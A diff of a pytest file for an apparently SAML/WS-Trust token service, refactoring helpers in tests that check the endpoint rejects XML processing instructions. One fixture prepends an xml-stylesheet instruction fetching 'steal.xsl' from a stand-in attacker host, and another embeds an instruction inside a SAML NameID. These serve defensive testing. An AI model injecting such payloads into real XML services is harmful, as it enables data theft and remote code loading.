@@ -8,16 +8,13 @@ import time
 from pathlib import Path
 
 import pytest
-from lxml import etree
 
 from sts import ns
 from sts.config import load_settings
 from sts.errors import InvalidRequest
-from sts.model import RequestContext
 from sts.protocol.xmlsafe import parse
 from sts.runtime import Runtime, build_runtime
-from sts.xmltime import utcnow
-from trust_client import Reply, rst_envelope
+from trust_client import handle_in_process, valid_digest_issue
 
 NAME_ID = (b"<saml:Assertion xmlns:saml='urn:oasis:names:tc:SAML:2.0:assertion' ID='_a'>"
            b"<saml:Subject><saml:NameID>al<?x?>ice</saml:NameID></saml:Subject></saml:Assertion>")
@@ -72,16 +69,6 @@ def runtime(sts_home: Path) -> Runtime:
     return build_runtime(load_settings(sts_home).with_bind("127.0.0.1", 8080, tls=False))
 
 
-def _handle(runtime: Runtime, body: bytes) -> Reply:
-    ctx = RequestContext(remote="127.0.0.1", tls=False, loopback_bind=True, received_at=utcnow())
-    response = runtime.endpoint.handle(body, ctx)
-    return Reply(response.status, response.content_type, etree.fromstring(response.body))
-
-
-def _valid(demo: dict[str, str]) -> bytes:
-    return bytes(rst_envelope(user=demo["user"], password=demo["password"], applies_to=demo["rp"], digest=True))
-
-
 def _before_the_envelope(body: bytes, demo: dict[str, str]) -> bytes:
     return b'<?xml-stylesheet type="text/xsl" href="http://attacker.example/steal.xsl"?>' + body
 
@@ -110,18 +97,18 @@ PLACES = {
 @pytest.mark.parametrize("place", list(PLACES))
 def test_endpoint_refuses_then_serves(runtime: Runtime, demo: dict[str, str], place: str) -> None:
     edit, target = PLACES[place]
-    valid = _valid(demo)
+    valid = valid_digest_issue(demo)
     body = edit(valid, demo)
     assert body != valid
     start = time.perf_counter()
-    reply = _handle(runtime, body)
+    reply = handle_in_process(runtime, body)
     assert time.perf_counter() - start < 1.0
     assert reply.status == 400  # a Sender fault in SOAP 1.2
     assert reply.fault_code == (ns.WST13, "InvalidRequest")
     assert reply.fault_reason == f"The request was invalid or malformed: processing instruction <?{target}?>"
-    assert _handle(runtime, _valid(demo)).status == 200
+    assert handle_in_process(runtime, valid_digest_issue(demo)).status == 200
 
 
 def test_endpoint_accepts_the_xml_declaration(runtime: Runtime, demo: dict[str, str]) -> None:
-    reply = _handle(runtime, b'<?xml version="1.0" encoding="utf-8"?>\n' + _valid(demo))
+    reply = handle_in_process(runtime, b'<?xml version="1.0" encoding="utf-8"?>\n' + valid_digest_issue(demo))
     assert reply.status == 200, reply.fault_reason
